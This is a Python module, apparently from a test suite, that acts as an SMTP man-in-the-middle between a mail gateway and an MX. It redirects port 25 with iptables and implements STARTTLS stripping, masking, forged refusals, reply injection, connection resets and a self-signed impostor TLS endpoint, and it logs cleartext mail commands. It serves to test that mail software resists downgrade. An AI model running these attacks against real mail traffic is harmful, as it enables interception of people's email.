# attacker.py - sits in the path between gateway and MX, in pst-net, and rewrites the dialogue
# SPDX-License-Identifier: GPL-3.0-or-later
import socket
import ssl
import struct
import threading

import certs

SO_ORIGINAL_DST = 80
HOW = ["strip", "mask", "refuse", "refuse-502", "code", "multi", "inject", "ehlo", "impostor",
       "pass", "reset"]


def original(conn):
    """Where the connection was going before the firewall turned it to us."""
    if conn.family == socket.AF_INET:
        raw = conn.getsockopt(socket.SOL_IP, SO_ORIGINAL_DST, 16)
        port, ip = struct.unpack("!2xH4s8x", raw)
        return socket.inet_ntop(socket.AF_INET, ip), port
    raw = conn.getsockopt(socket.IPPROTO_IPV6, SO_ORIGINAL_DST, 28)
    port, ip = struct.unpack("!2xH4x16s4x", raw)
    return socket.inet_ntop(socket.AF_INET6, ip), port


class Attack:
    """An attack on the given addresses; a context manager, as it lasts no longer than its case.

    strip     STARTTLS leaves the EHLO reply
    mask      its letters are overwritten, as some firewalls do
    refuse    the STARTTLS command is answered 454 (refuse-502: 502)
    code      ... with 250, multi with two lines, inject with replies behind the 220
    ehlo      EHLO is answered 502, so that the client falls back to HELO
    impostor  TLS ends at the attacker, who has a self-signed certificate
    reset     the connection is cut when STARTTLS is seen
    pass      nothing is changed; only what goes by is seen"""

    def __init__(self, network, addresses, how):
        assert how in HOW, how
        self.net, self.addresses, self.how = network, addresses, how
        self.clear = []		# commands seen in the clear, from the gateway
        self.connections = 0
        self.listeners = []

    def rules(self, action):
        for address in self.addresses:
            port = self.listeners[":" in address].getsockname()[1]
            self.net.net.tables(address, "-t", "nat", action, "PREROUTING", "-d", address, "-p",
                                "tcp", "--dport", "25", "-j", "REDIRECT", "--to-ports", str(port))

    def __enter__(self):
        self.listeners = [self.net.net.listen("0.0.0.0", 0), self.net.net.listen("::", 0)]
        for listener in self.listeners:
            threading.Thread(target=self.accept, args=(listener,), daemon=True).start()
        self.rules("-I")
        return self

    def __exit__(self, *_):
        self.rules("-D")
        for listener in self.listeners:
            try:
                listener.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
            listener.close()

    def mail_commands(self):
        return [c for c in self.clear
                if c[:4].upper() in (b"MAIL", b"RCPT", b"DATA", b"BDAT", b"VRFY", b"EXPN")]

    def accept(self, listener):
        while True:
            try:
                conn, _ = listener.accept()
            except OSError:
                return
            self.connections += 1
            threading.Thread(target=self.run, args=(conn,), daemon=True).start()

    def run(self, conn):
        address, port = original(conn)
        try:
            server = self.net.net.connect(address, port, 20)
        except OSError:
            conn.close()
            return
        conn.settimeout(120)
        server.settimeout(120)
        Wire(self, conn, server).run()


class Wire:
    """One connection between victim and server."""

    def __init__(self, attack, client, server):
        self.attack, self.how = attack, attack.how
        self.client, self.server = client, server
        self.tls_next = False	# the client asked for TLS; the server's answer decides
        self.raw = threading.Event()
        self.chunks = threading.Event()

    def is_set(self):
        """Whether the client's octets are passed on as they come."""
        return self.raw.is_set() or self.chunks.is_set()

    def run(self):
        back = threading.Thread(target=self.guard, args=(self.downstream, self.client), daemon=True)
        back.start()
        self.guard(self.upstream, self.server)
        back.join()
        self.client.close()
        self.server.close()

    def guard(self, pump, to):
        """Some clients close their half before the last replies (Exim): the other half lives on."""
        how = socket.SHUT_WR
        try:
            pump()
        except (OSError, ValueError):
            how = socket.SHUT_RDWR
        for s in [to] if how == socket.SHUT_WR else [self.client, self.server]:
            try:
                s.shutdown(how)
            except OSError:
                pass

    def lines(self, sock, raw):
        """Yields lines with their ends; after raw is set, whatever comes."""
        buffer = b""
        while True:
            if raw.is_set() and buffer:
                yield buffer
                buffer = b""
            while b"\n" in buffer and not raw.is_set():
                line, _, buffer = buffer.partition(b"\n")
                yield line + b"\n"
            if raw.is_set() and buffer:
                continue
            data = sock.recv(65536)
            if not data:
                return
            buffer += data

    def upstream(self):
        for line in self.lines(self.client, self):
            if not self.is_set():
                self.attack.clear.append(line.rstrip())
                if self.command(line[:8].upper().rstrip()):
                    continue
                if line[:4].upper() == b"BDAT":
                    self.chunks.set()	# what follows has no lines
            self.server.sendall(line)

    def command(self, verb):
        """True when the attacker answers in the server's stead."""
        how = self.how
        if verb.startswith(b"EHLO") and how == "ehlo":
            self.client.sendall(b"502 5.5.1 command not implemented\r\n")
            return True
        if verb != b"STARTTLS":
            return False
        forged = {"refuse": b"454 4.7.0 TLS not available due to local problem\r\n",
                  "refuse-502": b"502 5.5.1 command not implemented\r\n",
                  "strip": b"502 5.5.1 command not implemented\r\n",
                  "mask": b"502 5.5.1 command not implemented\r\n",
                  "code": b"250 2.0.0 ready\r\n"}
        if how in forged:
            self.client.sendall(forged[how])
            return True
        if how == "reset":
            self.client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            self.client.close()
            raise OSError("reset")
        if how == "impostor":
            self.impostor()
            return True
        self.tls_next = True
        return False

    def downstream(self):
        for line in self.lines(self.server, self.raw):
            if not self.raw.is_set():
                line = self.reply(line)
            self.client.sendall(line)

    def reply(self, line):
        if self.tls_next and line[:3] == b"220":
            self.raw.set()
            if self.how == "multi":
                return b"220-2.0.0 please wait\r\n" + line
            if self.how == "inject":
                return line + b"250-injected\r\n250 SIZE 1\r\n"
            return line
        if line[4:12].upper() == b"STARTTLS" and line[:3] == b"250":
            if self.how == "mask":
                return line[:4] + b"XXXXXXXA" + line[12:]
            if self.how == "strip":
                # Where it is the last line, the reply still needs an end.
                return b"" if line[3:4] == b"-" else b"250 HELP\r\n"
        return line

    def impostor(self):
        """TLS with both sides, with a certificate for the right name that nobody signed."""
        self.client.sendall(b"220 2.0.0 ready\r\n")
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(certs.leaf("thief", "mx.impostor.example"))
        tls = context.wrap_socket(self.client, server_side=True)
        while True:
            data = tls.recv(65536)
            if not data:
                raise OSError("done")
            self.attack.clear += data.splitlines()
            verb = data[:4].upper()
            tls.sendall(b"250-mx\r\n250 SIZE\r\n" if verb == b"EHLO" else
                        b"354 go\r\n" if verb == b"DATA" else b"250 2.0.0 ok\r\n")


